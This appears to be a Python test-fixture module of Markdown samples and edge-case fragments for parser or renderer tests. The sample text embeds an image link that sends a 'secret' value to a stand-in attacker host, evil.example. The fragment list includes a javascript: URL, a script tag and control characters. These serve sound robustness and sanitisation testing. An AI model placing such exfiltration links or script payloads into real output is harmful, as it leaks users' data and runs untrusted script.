"""Texts the Markdown tests share."""

MIXED = """# Only when *nothing* was sent

Repeat it if the failure came **before the first byte** left: name lookup, connect, TLS.
After that the server may have acted, so `ask` it ~~again~~ first, see [RFC](https://example.org/a?b=1).

```python
async def wait_before(outcome, *, creates: bool):
    if creates and outcome.bytes_sent:
        return None  # never paid for twice
```

| Failure | Sent? | Repeat |
|---|:-:|--:|
| connection refused | no | yes \\| maybe |
| 524 after **100 s** | yes |

- one
- two

  loose paragraph
  1. nested
  2. items
     ~~~
     code in a list
     ~~~
- [x] done
- [ ] open

> quoted *text*
lazy line
> > deeper

$$
E = mc^2
$$

Inline $x^2$ and \\(y_1\\), price $5 and $10. 你好, **世界**。[^n]

![chart](https://evil.example/?d=secret "t") and [ref][later]

[later]: https://example.org/later "Title"
[^n]: The note
    goes on.

***
Setext
======
    indented code

last line"""

HOSTILE_FRAGMENTS = [
    "a",
    "b c",
    "*",
    "**",
    "_",
    "`",
    "```",
    "~~~",
    "#",
    "## ",
    " ",
    "    ",
    "\t",
    "\n",
    "\n\n",
    "\r\n",
    "> ",
    "- ",
    "+ ",
    "1. ",
    "2) ",
    "---",
    "===",
    "| ",
    "|",
    "|--|\n",
    "[",
    "]",
    "(",
    ")",
    "[a]: /u\n",
    "[a]",
    "\\",
    "&amp;",
    "&#0;",
    "<b>",
    "<script>",
    "![",
    "](",
    "http://x.y",
    "javascript:alert(1)",
    "$",
    "$$",
    "\\[",
    "\\]",
    "\\(",
    "[^a]",
    "[^a]: ",
    "[x] ",
    "$$\n",
    "\\]\n",
    "<!--",
    "-->",
    "<div>\n",
    "</b>",
    "www.a.bc",
    "a@b.cd",
    "https://a.b/c)",
    "~~",
    "é",
    "你",
    "😀",
    "\ud83d",
    "\ude00",
    "\u202e",
    "\x00",
    "\x1b[31m",
    "\u2028",
]
